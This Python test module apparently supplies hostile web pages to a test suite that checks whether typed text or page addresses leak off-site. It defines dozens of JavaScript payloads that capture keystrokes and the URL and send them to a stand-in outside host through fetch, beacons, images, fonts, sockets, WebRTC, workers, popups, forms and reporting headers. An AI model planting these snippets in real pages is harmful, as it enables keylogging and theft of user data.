# ruff: noqa: E501 - a page's script stays in one piece
"""Pages that read what is typed, or what is in their address, and tell others of it."""

from tests.channels.web.acme import FORM_END, FORM_START, HOST
from tests.hostile.page import (
    ABSENT,
    DONE,
    ELSEWHERE,
    OFF_DOMAIN,
    Hostile,
    Right,
    html,
    opt_out,
    scripted,
)
from tests.hostile.recorder import FOREIGN

BROWSER = ("browser",)
NOTHING = "<h1>Acme search</h1><p>No results for this name</p>"
FOUND_OUT = f"const spy = '{ELSEWHERE}/spy?' + encodeURIComponent(told);"
WORKER = "new Blob([`{code}`], {{type: 'text/javascript'}})"


def _telling(name: str, does: str, code: str, right: Right = DONE) -> tuple[Hostile, Hostile]:
    """``code`` uses ``told`` (a fact) and ``spy`` (an address elsewhere with that fact in it)."""
    tell = f"const tell = told => {{ {FOUND_OUT} {code} }};"
    on_input = f"{tell} document.addEventListener('input', e => tell(e.target.value))"
    typed = Hostile(
        f"{name}-of-what-is-typed", does, scripted(on_input), right, ways=BROWSER, learns=True, posts=1
    )
    page = html(f"{NOTHING}<script>{tell} tell(location.href)</script>")
    address = Hostile(f"{name}-of-the-address", does, page, ABSENT, ("search",), BROWSER)
    return typed, address


def _headed(name: str, does: str, **headers: str) -> Hostile:
    page = html(f"{NOTHING}<script>1</script><img src=x onerror=1>", **headers)
    return Hostile(name, does, page, ABSENT, ("search",), BROWSER)


def _worker(code: str) -> str:
    return "URL.createObjectURL(" + WORKER.format(code=code) + ")"


def _added(markup: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', `{markup}`);"


PAGES = (
    *_telling("fetch", "fetches an address elsewhere", "fetch(spy, {mode: 'no-cors'}).catch(() => 0)"),
    *_telling(
        "keepalive", "fetches and outlives the page", "fetch(spy, {mode: 'no-cors', keepalive: true})"
    ),
    *_telling("beacon", "sends a beacon", "navigator.sendBeacon(spy, told)"),
    *_telling(
        "farewell",
        "sends a beacon when it is left",
        "addEventListener('pagehide', () => navigator.sendBeacon(spy))",
    ),
    *_telling(
        "old-request",
        "asks by XMLHttpRequest",
        "const x = new XMLHttpRequest(); x.open('POST', spy); x.send(told)",
    ),
    *_telling("image", "draws an image", "new Image().src = spy"),
    *_telling("style", "adds a style with an image", _added("<p style='background: url(${spy})'>x</p>")),
    *_telling(
        "font",
        "adds a font",
        _added("<style>@font-face { font-family: f; src: url(${spy}) } p { font-family: f }</style>"),
    ),
    *_telling("import", "imports a module", "import(spy).catch(() => 0)"),
    *_telling("stylesheet", "adds a style sheet", _added("<link rel=stylesheet href='${spy}'>")),
    *_telling(
        "prefetch",
        "prefetches a page",
        _added(
            "<link rel=prefetch href='${spy}'><link rel=preload as=image href='${spy}'><link rel=modulepreload href='${spy}'>"
        ),
    ),
    *_telling(
        "preconnect",
        "connects beforehand to a host that is named like the fact",
        f"const name = told.replace(/[^a-z]/gi, '').slice(-40) + '.{FOREIGN}';"
        + _added("<link rel=preconnect href='https://${name}'><link rel=dns-prefetch href='//${name}'>"),
    ),
    *_telling("icon", "changes its icon", _added("<link rel=icon href='${spy}'>")),
    *_telling(
        "speculation",
        "has the next page fetched beforehand",
        "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify("
        "{prefetch: [{source: 'list', urls: [spy]}], prerender: [{source: 'list', urls: [spy]}]}); document.head.append(s)",
    ),
    *_telling(
        "media",
        "plays a film",
        _added(
            "<video autoplay poster='${spy}' src='${spy}'></video><audio autoplay src='${spy}'></audio>"
        ),
    ),
    *_telling(
        "object", "embeds an object", _added("<object data='${spy}'></object><embed src='${spy}'>")
    ),
    *_telling("frame", "opens a frame", _added("<iframe src='${spy}'></iframe>")),
    *_telling(
        "inner-frame",
        "uses what an empty frame has",
        "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow;"
        "w.fetch(spy, {mode: 'no-cors'}).catch(() => 0); w.navigator.sendBeacon(spy);"
        "try { new w.WebSocket(spy.replace('https', 'wss')) } catch { }",
    ),
    *_telling(
        "socket", "opens a WebSocket", "try { new WebSocket(spy.replace('https', 'wss')) } catch { }"
    ),
    *_telling("event-source", "waits for events", "new EventSource(spy)"),
    *_telling("transport", "opens a WebTransport", "try { new WebTransport(spy) } catch { }"),
    *_telling(
        "call",
        "makes a call by WebRTC",
        "try { const c = new RTCPeerConnection({iceServers: [{urls: `stun:" + FOREIGN + ":3478`},"
        "{urls: `turn:"
        + FOREIGN
        + ":3478`, username: told, credential: told}]}); c.createDataChannel('x');"
        "c.createOffer().then(o => c.setLocalDescription(o)) } catch { }",
    ),
    *_telling(
        "worker",
        "has a worker tell it",
        f"new Worker({_worker('fetch(name, {mode: `no-cors`})')}, {{name: spy}})".replace(
            "`no-cors`", '"no-cors"'
        ),
    ),
    *_telling(
        "worker-socket",
        "has a worker open a WebSocket",
        f"new Worker({_worker('new WebSocket(name)')}, {{name: spy.replace('https', 'wss')}})",
    ),
    *_telling(
        "shared-worker",
        "has a shared worker tell it",
        f"new SharedWorker({_worker('fetch(name, {mode: `no-cors`})')}, {{name: spy}})".replace(
            "`no-cors`", '"no-cors"'
        ),
    ),
    *_telling("popup", "opens a window elsewhere", "window.open(spy)"),
    *_telling(
        "silent-popup",
        "opens a window without an opener",
        "window.open(spy, '_blank', 'noopener,width=9,height=9')",
    ),
    *_telling(
        "link",
        "clicks a link to another window",
        _added("<a target=_blank id=spy href='${spy}'>x</a>")
        + "document.querySelector('a[target]').click()",
    ),
    *_telling(
        "ping",
        "clicks a link that reports clicks",
        _added("<a href='#here' ping='${spy}'>x</a>") + "document.querySelector('a[ping]').click()",
    ),
    *_telling(
        "framed-form",
        "sends a form into a frame",
        _added(
            "<iframe name=sink></iframe><form class=sink target=sink method=post action='${spy}'><input type=hidden name=x value='${told}'></form>"
        )
        + "document.querySelector('form.sink').submit()",
    ),
    *_telling(
        "form-in-a-window",
        "sends a form into another window",
        _added(
            "<form class=sink target=_blank method=post action='${spy}'><input type=hidden name=x value='${told}'></form>"
        )
        + "document.querySelector('form.sink').submit()",
    ),
    *_telling(
        "unencrypted-image",
        "draws an image of its own without encryption",
        f"new Image().src = 'http://{HOST}/i?' + told",
    ),
    *_telling(
        "unencrypted-fetch",
        "fetches of its own without encryption",
        f"fetch('http://{HOST}/i?' + told).catch(() => 0)",
    ),
    *_telling(
        "unencrypted-beacon",
        "sends a beacon without encryption",
        f"try {{ navigator.sendBeacon('http://{HOST}/i', told) }} catch {{ }}",
    ),
    *_telling(
        "unencrypted-frame",
        "opens a frame without encryption",
        _added(f"<iframe src='http://{HOST}/i?${{told}}'></iframe>"),
    ),
    *_telling(
        "unencrypted-popup",
        "opens a window without encryption",
        f"window.open('http://{HOST}/i?' + told)",
    ),
    *_telling(
        "unencrypted-framed-form",
        "sends a form into a frame without encryption",
        _added(
            f"<iframe name=sink></iframe><form class=sink target=sink method=post action='http://{HOST}/i'><input type=hidden name=x value='${{told}}'></form>"
        )
        + "document.querySelector('form.sink').submit()",
    ),
    *_telling(
        "reload-elsewhere",
        "a service worker is to send it on",
        "navigator.serviceWorker?.register('/sw.js').catch(() => 0)",
    ),
    _headed(
        "violation-report",
        "asks the browser to report violations, address included, elsewhere",
        content_security_policy=f"default-src 'none'; report-uri {ELSEWHERE}/csp",
    ),
    _headed(
        "report-to",
        "asks the browser to report to others",
        reporting_endpoints=f'default="{ELSEWHERE}/report"',
        report_to='{"group":"default","max_age":99,"endpoints":[{"url":"' + ELSEWHERE + '/r"}]}',
        nel='{"report_to":"default","max_age":99,"success_fraction":1.0}',
        content_security_policy="default-src 'none'; report-to default",
    ),
    _headed(
        "link-header",
        "a header asks the browser to get things elsewhere",
        link=f"<{ELSEWHERE}/a.css>; rel=preload; as=style, <{ELSEWHERE}>; rel=preconnect, <//x.{FOREIGN}>; rel=dns-prefetch",
        referrer_policy="unsafe-url",
    ),
    Hostile(
        "form-sent-elsewhere-at-the-first-letter",
        "a script sends the form elsewhere as soon as something is typed",
        scripted(
            f"document.addEventListener('input', () => {{ const f = document.forms[0]; f.action = '{ELSEWHERE}/x'; f.submit() }})"
        ),
        OFF_DOMAIN,
        ways=BROWSER,
        learns=True,
    ),
    Hostile(
        "everything-from-elsewhere",
        "loads its script, style, image and frame from elsewhere",
        opt_out(
            f'<img src="{ELSEWHERE}/pixel.gif"><iframe src="{ELSEWHERE}/frame"></iframe>'
            f'<link rel="stylesheet" href="{ELSEWHERE}/style.css"><script src="{ELSEWHERE}/replay.js"></script>',
            start=FORM_START,
            end=FORM_END,
        ),
        DONE,
        posts=1,
        learns=True,
    ),
)
